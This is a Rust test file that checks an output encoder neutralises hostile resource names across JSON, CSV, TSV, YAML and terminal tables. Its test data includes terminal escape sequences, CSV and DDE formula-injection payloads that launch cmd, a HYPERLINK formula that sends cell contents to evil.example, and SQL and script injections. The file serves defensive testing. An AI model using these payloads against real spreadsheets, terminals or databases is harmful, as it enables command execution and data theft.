//! Names that try to reach a terminal or a spreadsheet, through every format.

use std::borrow::Cow;

use proptest::prelude::*;

use super::*;
use crate::output::View;

const SAFE: Texts = Texts { guarded: true, visible: true };
const RAW: Texts = Texts { guarded: false, visible: false };

/// Names as nobody should give them to a resource.
fn hostile() -> Vec<String> {
    let mut names: Vec<String> = [
        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]0;title\u{7}",
        "\u{1b}P+q544e\u{1b}\\",
        "bell\u{7}bell",
        "over\rwritten",
        "two\nlines",
        "csv\n=1+1,injected\r\n=2+2",
        "a\ttab",
        "\0nul\0",
        "\u{9b}31mC1\u{9d}0;x\u{9c}",
        "del\u{7f}\u{7f}",
        "\u{202e}txt.exe\u{202c}",
        "\u{2066}isolated\u{2069}\u{200f}",
        "zero\u{200b}width\u{200d}\u{feff}\u{2060}",
        "\u{e0041}\u{e0042}tags",
        "soft\u{ad}hyphen\u{61c}\u{180e}",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "   =1",
        "\u{a0}\u{feff}=1",
        "＝1＋1",
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "harmless;=1+1;@x",
        "harmless;\"=1+1\"",
        "\"=1\"",
        "\",=1,\"",
        "'; DROP TABLE usage; --",
        "a,b;c",
        "👩‍👩‍👧‍👦 family",
        "\\ud800 \\u001b \\n",
        "C:\\new\\table",
        "<script>alert(1)</script>&amp;",
        "\"}],\"cost\":0,[{\"",
        "key: value",
        "- item",
        "# comment",
        "&anchor *alias !tag %0a {x} [y]",
        "| \n literal",
        "yes",
        "1:20",
        "0o17",
        "0x1F",
        "1e5",
        "2026-11-21",
        "~",
        ".inf",
        "null ",
        "---\n...",
        "\u{2028}line\u{2029}paragraph\u{85}next",
        " leading and trailing ",
        "",
    ]
    .iter()
    .map(ToString::to_string)
    .collect();
    names.push(format!("o{}", "\u{301}\u{489}".repeat(300)));
    names.push("long ".repeat(2000));
    names
}

fn fields(count: usize) -> Vec<Field> {
    (0..count).map(|index| Field::named(&format!("column{index}"), Kind::Text, index)).collect()
}

fn texts(names: &[String]) -> Vec<Cell<'_>> {
    names.iter().map(|name| Cell::text(name)).collect()
}

/// The rows in a format.
fn encoded(format: Format, texts: Texts, rows: &[Vec<Cell<'_>>]) -> Vec<u8> {
    let fields = fields(rows.iter().map(Vec::len).max().unwrap_or(0));
    let encoder = encoder(format, fields, texts).unwrap();
    let mut out = Vec::new();
    encoder.begin(&mut out);
    let mut index = 0;
    for row in rows {
        encoder.row(index, row, &mut out);
        index += 1;
    }
    encoder.end(index, &mut out);
    out
}

fn in_table(rows: &[Vec<Cell<'_>>], look: Look) -> String {
    let mut table = Table::new(fields(1), View { title: Some(hostile().concat()), ..View::default() });
    rows.iter().for_each(|row| table.push(row));
    table.render(look, &hostile())
}

#[track_caller]
fn check_harmless(format: &str, text: &str, tabs: bool) {
    let found = text.chars().find(|c| is_hidden(*c) && *c != '\n' && !(tabs && *c == '\t'));
    assert_eq!(found, None, "{format}: {text:?}");
}

#[test]
fn no_control_character_reaches_a_terminal() {
    for name in hostile() {
        let row = vec![texts(std::slice::from_ref(&name))];
        let json = vec![vec![Cell::Json(serde_json::json!({ "t": name }).to_string().into())]];
        for rows in [&row, &json] {
            for format in [Format::Json, Format::Jsonl, Format::Csv, Format::Tsv, Format::Yaml] {
                let text = String::from_utf8(encoded(format, SAFE, rows)).unwrap();
                check_harmless(&format!("{format:?}"), &text, format == Format::Tsv);
                let lines = match format {
                    Format::Json => 3,
                    Format::Csv => 2,
                    _ => 1,
                };
                assert_eq!(text.lines().count(), lines, "{format:?} of {name:?}: {text:?}");
            }
            // To a terminal not even if the texts are wanted as they came.
            for format in [Format::Csv, Format::Tsv] {
                let raw = encoded(format, Texts { guarded: false, visible: true }, rows);
                check_harmless("raw", &String::from_utf8(raw).unwrap(), format == Format::Tsv);
            }
            for width in [None, Some(80)] {
                check_harmless("table", &in_table(rows, Look { width, ..Look::default() }), false);
            }
        }
    }
}

#[test]
fn no_formula_reaches_a_spreadsheet() {
    let names = hostile();
    let text = encoded(Format::Csv, SAFE, &[texts(&names)]);
    // The separators of both kinds of countries.
    for delimiter in *b",;" {
        let mut reader = ::csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).from_reader(&*text);
        for record in reader.records() {
            for cell in &record.unwrap() {
                let start = cell.trim_start_matches(|c: char| c.is_whitespace() || is_hidden(c));
                assert!(!start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
            }
        }
    }
    let tsv = String::from_utf8(encoded(Format::Tsv, SAFE, &[texts(&names)])).unwrap();
    assert!(tsv.split('\t').all(|cell| !text::is_formula(cell)), "{tsv}");
}

#[test]
fn numbers_are_no_formulas() {
    let row = vec![Cell::Number(Cow::Borrowed("-1.50")), Cell::text("-1.50")];
    let text = String::from_utf8(encoded(Format::Csv, SAFE, std::slice::from_ref(&row))).unwrap();
    assert_eq!(text, "column0,column1\n-1.50,'-1.50\n");
    let text = String::from_utf8(encoded(Format::Csv, RAW, &[row])).unwrap();
    assert_eq!(text, "column0,column1\n-1.50,-1.50\n");
}

#[test]
fn cells_of_csv() {
    let check = |text: &str, expect: &str| {
        let cells = vec![Cell::text(text), Cell::Null];
        let line = String::from_utf8(encoded(Format::Csv, SAFE, &[cells])).unwrap();
        assert_eq!(line.lines().nth(1), Some(format!("{expect},").as_str()), "{text:?}");
    };
    check("plain text", "plain text");
    check("ends blank ", "\"ends blank \"");
    check(" begins blank", "\" begins blank\"");
    check("a;b;c", "\"a;b;c\"");
    check("a; =1;-2", "\"a;' =1;'-2\"");
    check("say \"x\"", "\"say \"\"x\"\"\"");
    check("-", "'-");
    check("a-b=c", "a-b=c");
}

#[test]
fn all_hidden_characters_are_found() {
    for c in ('\0'..=char::MAX).filter(|c| is_hidden(*c)) {
        let text = visible(&format!("a{c}é"));
        assert!(
            text.starts_with("a\\") && text.ends_with('é') && text.len() > 4,
            "{c:?} is shown as {text:?}"
        );
    }
    assert_eq!(visible("Größe 全角 👩🏽 e\u{301} \\ \"x\""), "Größe 全角 👩🏽 e\u{301} \\ \"x\"");
}

#[test]
fn hostile_names_come_back_as_they_were() {
    check_round_trip(&hostile());
}

#[track_caller]
fn check_round_trip(names: &[String]) {
    let rows = [texts(names)];
    let object: std::collections::BTreeMap<String, &String> =
        names.iter().enumerate().map(|(index, name)| (format!("column{index}"), name)).collect();
    let expect = serde_json::json!([object]);
    let json: serde_json::Value = serde_json::from_slice(&encoded(Format::Json, SAFE, &rows)).unwrap();
    assert_eq!(json, expect);
    let lines: serde_json::Value = serde_json::from_slice(&encoded(Format::Jsonl, SAFE, &rows)).unwrap();
    assert_eq!(lines, expect[0]);
    let yaml = String::from_utf8(encoded(Format::Yaml, SAFE, &rows)).unwrap();
    let read: Vec<std::collections::BTreeMap<String, String>> = serde_saphyr::from_str(&yaml).expect(&yaml);
    assert_eq!(serde_json::json!(read), expect, "{yaml}");
    // As a server could send them, with and without escapes, in a field that holds JSON.
    let plain = serde_json::json!({ "names": names }).to_string();
    let escape = |c: char| c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect();
    let escaped: String =
        plain.chars().map(|c| if c.is_ascii() { c.to_string() } else { escape(c) }).collect();
    for json in [&plain, &escaped] {
        let row = [vec![Cell::Json(json.into())]];
        let yaml = String::from_utf8(encoded(Format::Yaml, SAFE, &row)).unwrap();
        let read: serde_json::Value = serde_saphyr::from_str(&yaml).expect(&yaml);
        assert_eq!(read[0]["column0"]["names"], serde_json::json!(names), "{yaml}");
        let read: serde_json::Value = serde_json::from_slice(&encoded(Format::Json, SAFE, &row)).unwrap();
        assert_eq!(read[0]["column0"]["names"], serde_json::json!(names));
    }
    let csv = encoded(Format::Csv, RAW, &rows);
    let read: Vec<_> = ::csv::Reader::from_reader(&*csv).into_records().map(Result::unwrap).collect();
    assert_eq!(read.len(), 1);
    assert!(read[0].iter().eq(names), "{read:?}");
    let tsv = String::from_utf8(encoded(Format::Tsv, RAW, &rows)).unwrap();
    let cells: Vec<_> = tsv.trim_end_matches('\n').split('\t').map(without_escapes).collect();
    assert_eq!(cells, names);
}

/// What a reader of TSV makes of a cell.
fn without_escapes(cell: &str) -> String {
    let mut chars = cell.chars();
    let mut text = String::new();
    while let Some(c) = chars.next() {
        text.push(match c {
            '\\' => match chars.next() {
                Some('n') => '\n',
                Some('r') => '\r',
                Some('t') => '\t',
                other => other.unwrap(),
            },
            c => c,
        });
    }
    text
}

/// Characters that have a meaning somewhere, and any others.
fn text() -> impl Strategy<Value = String> {
    let special = prop::sample::select(
        "\u{1b}\u{9b}\u{202e}\u{200d}\r\n\t \"'\\,;:-#&*!|>%@`={}[]~019eynNo.é👩".chars().collect::<Vec<_>>(),
    );
    prop::collection::vec(prop_oneof![3 => special, 1 => any::<char>()], 0..12)
        .prop_map(|chars| chars.iter().collect())
}

proptest! {
    #[test]
    fn what_is_written_is_read_back(names in prop::collection::vec(text(), 1..5)) {
        check_round_trip(&names);
    }

    #[test]
    fn whatever_is_written_is_harmless(name in text()) {
        let rows = [texts(std::slice::from_ref(&name))];
        for format in [Format::Json, Format::Csv, Format::Tsv, Format::Yaml] {
            let text = String::from_utf8(encoded(format, SAFE, &rows)).unwrap();
            check_harmless(&format!("{format:?}"), &text, format == Format::Tsv);
        }
        check_harmless("table", &in_table(&rows, Look { width: Some(40), ..Look::default() }), false);
    }

    #[test]
    fn numbers_keep_all_their_digits(digits in "-?[0-9]{1,12}(\\.[0-9]{1,28})?") {
        let row = || vec![Cell::Number(Cow::Borrowed(&*digits))];
        for (format, expect) in [
            (Format::Json, format!("[\n{{\"column0\":{digits}}}\n]\n")),
            (Format::Csv, format!("column0\n{digits}\n")),
            (Format::Tsv, format!("{digits}\n")),
            (Format::Yaml, format!("- column0: {digits}\n")),
        ] {
            prop_assert_eq!(String::from_utf8(encoded(format, SAFE, &[row()])).unwrap(), expect);
        }
    }
}
